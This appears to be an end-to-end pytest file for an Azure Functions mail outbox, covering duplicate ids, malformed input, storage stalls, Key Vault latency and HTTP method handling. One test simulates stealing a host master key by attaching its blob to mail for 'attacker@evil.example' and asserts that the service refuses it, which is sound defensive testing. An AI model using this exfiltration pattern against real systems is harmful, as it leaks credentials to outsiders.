"""The HTTP API and the queue against hostile and careless producers, and a stalled storage account:
no host secret is mailed, a reused id drops no message, every call is answered in time."""

from __future__ import annotations

import os
import signal
import time
from collections.abc import Callable

import pytest
from azure.storage.blob import BlobServiceClient

from harness.azurite import Azurite
from tests.e2e.conftest import Stack, call, mail

pytestmark = pytest.mark.e2e

SECRET = b'{"masterKey": {"name": "master", "value": "host-master-key-value"}}'


def _plant_host_secret(connection_string: str) -> str:
    service = BlobServiceClient.from_connection_string(connection_string)
    container = service.get_container_client("azure-webjobs-secrets")
    if not container.exists():
        container.create_container()
    container.upload_blob("func-outbox/host.json", SECRET, overwrite=True)
    return "azure-webjobs-secrets/func-outbox/host.json"


def test_a_host_key_blob_is_refused_through_http_and_the_queue(stack: Stack) -> None:
    ref = _plant_host_secret(stack.azurite.connection_string)
    attachment = {"name": "host.json", "blob": ref}
    for mode in ("queue", "now"):
        status, _, body = call(stack, "POST", f"send?mode={mode}",
                               mail(id=f"steal-{mode}", to=["attacker@evil.example"], attachments=[attachment]))
        assert status == 403, body
        assert body["error"]["code"] == "not_permitted"
        assert body["error"]["errors"][0]["field"] == "attachments[0].blob"
    stack.enqueue(mail(id="steal-queue-direct", to=["attacker@evil.example"], attachments=[attachment]))
    [envelope] = stack.poison()
    assert envelope["error"]["category"] == "invalid_message" and envelope["attempts"] == 1
    row = stack.wait_state("steal-queue-direct", "poisoned")
    assert row.attempts == 1 and row.last_category == "invalid_message"
    assert stack.harness.deliveries() == []


def test_a_reused_id_is_refused_not_dropped(stack: Stack) -> None:
    status, _, first = call(stack, "POST", "send", mail(id="daily-q", subject="queued monday"))
    assert status == 202 and first["state"] == "queued" and "duplicate" not in first
    status, _, second = call(stack, "POST", "send", mail(id="daily-q", subject="queued tuesday"))
    assert status == 409 and second["id"] == "daily-q"
    assert second["error"]["code"] == "outbox.id_reused"
    assert "'daily-q' was first used at 20" in second["error"]["detail"]
    status, _, now = call(stack, "POST", "send?mode=now", mail(id="daily-q", subject="queued tuesday"))
    assert status == 409 and now["error"]["code"] == "outbox.id_reused"
    # The same message again is a duplicate, said so.
    stack.wait_state("daily-q", "sent")
    status, _, again = call(stack, "POST", "send", mail(id="daily-q", subject="queued monday"))
    assert status == 200 and again["duplicate"] is True and again["state"] == "sent"
    stack.wait_idle()
    [delivery] = stack.harness.deliveries()
    assert delivery.subject == "queued monday"
    status, _, sent = call(stack, "POST", "send", mail(id="daily-q", subject="queued monday"))
    assert status == 200 and sent["duplicate"] is True and sent["state"] == "sent"


def test_a_body_of_5000_digits_is_400_in_both_modes(stack: Stack) -> None:
    raw = b'{"id": ' + b"9" * 5000 + b', "from": "sender@contoso.example"}'
    for mode in ("queue", "now"):
        status, _, body = call(stack, "POST", f"send?mode={mode}", raw=raw)
        assert status == 400 and body["error"]["category"] == "invalid_message"


def _stalled(emulator: Azurite) -> Callable[[], None]:
    assert emulator.pid is not None
    os.killpg(emulator.pid, signal.SIGSTOP)
    return lambda: os.killpg(emulator.pid or 0, signal.SIGCONT)


def test_a_stalled_storage_account_gets_a_503_in_time_and_the_resend_is_delivered_once(
        stack_factory: Callable[..., Stack], stallable: Azurite) -> None:
    deadline = 2.0
    stack = stack_factory(storage=stallable, settings={"OUTBOX_API_DEADLINE_S": str(deadline),
                                                       "OUTBOX_STORAGE_TIMEOUT_S": "3"})
    assert call(stack, "GET", "messages/warm-up")[0] == 404  # clients built, table created
    resume = _stalled(stallable)
    try:
        for mode in ("queue", "now"):
            started = time.monotonic()
            status, headers, body = call(stack, "POST", f"send?mode={mode}", mail(id=f"stall-{mode}"))
            took = time.monotonic() - started
            assert status == 503, body
            assert took < deadline + 2.0, took
            assert int(headers["Retry-After"]) >= 1 and body["resendSafe"] is True
            assert body["id"] == f"stall-{mode}" and body["error"]["code"] == "outbox.deadline"
            key = "mayHaveBeenQueued" if mode == "queue" else "mayHaveBeenSent"
            assert body[key] is False
        status, headers, body = call(stack, "GET", "messages/stall-queue")
        assert status == 503 and int(headers["Retry-After"]) >= 1
    finally:
        resume()
    for mode in ("queue", "now"):
        assert _until_answered(stack, mode) in (200, 202)
    stack.wait_state("stall-queue", "sent")
    stack.wait_state("stall-now", "sent")
    stack.wait_idle()
    ids = [d.message_id for d in stack.harness.deliveries()]
    assert len(ids) == 2 and len(set(ids)) == 2  # one copy of each


def _until_answered(stack: Stack, mode: str) -> int:
    """The producer's resend: the same request until storage has caught up (the claim left by the
    abandoned attempt may still be in flight for a moment: 409 in_flight says come back)."""
    deadline = time.monotonic() + 60
    while True:
        status, headers, _ = call(stack, "POST", f"send?mode={mode}", mail(id=f"stall-{mode}"))
        if status in (200, 202) or time.monotonic() > deadline:
            return status
        assert status in (409, 503), status
        stack.host.wait_until(lambda: False, min(2.0, float(headers.get("Retry-After", "1"))))


def test_key_vault_slower_than_the_deadline_is_a_503_and_nothing_is_lost(
        stack_factory: Callable[..., Stack]) -> None:
    stack = stack_factory(settings={"OUTBOX_API_DEADLINE_S": "1.5"})
    stack.harness.set_fault(service="keyvault", action="latency", latency_s=4, times=1)
    status, headers, body = call(stack, "POST", "send?mode=now", mail(id="kv-slow"))
    assert status == 503 and body["resendSafe"] is True and int(headers["Retry-After"]) >= 1
    assert body["mayHaveBeenSent"] is True  # the send had begun: Key Vault is read inside it
    # The attempt goes on behind the answer and delivers; the resend finds it sent.
    stack.wait_state("kv-slow", "sent")
    status, _, again = call(stack, "POST", "send?mode=now", mail(id="kv-slow"))
    assert status == 200 and again["duplicate"] is True
    assert len(stack.harness.deliveries()) == 1



def test_undeclared_methods_are_405_with_allow(stack: Stack) -> None:
    import urllib.error
    import urllib.request

    for method, path, allow in (("PATCH", "send", "POST"), ("FOO", "send", "POST"), ("DELETE", "messages/x", "GET")):
        req = urllib.request.Request(f"{stack.host.base_url}/api/{path}", method=method,
                                     headers={"x-functions-key": "test-key"})
        with pytest.raises(urllib.error.HTTPError) as caught:
            urllib.request.urlopen(req, timeout=30)
        assert caught.value.code == 405 and caught.value.headers["Allow"] == allow, (method, path)
